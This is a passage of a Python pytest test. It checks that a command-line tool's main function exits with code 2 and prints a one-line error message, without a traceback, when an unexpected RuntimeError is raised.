    with pytest.raises(SystemExit) as info:
        cli.main()
    assert info.value.code == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1 and err.startswith("error: unexpected RuntimeError: boom")
    assert "Traceback" not in err
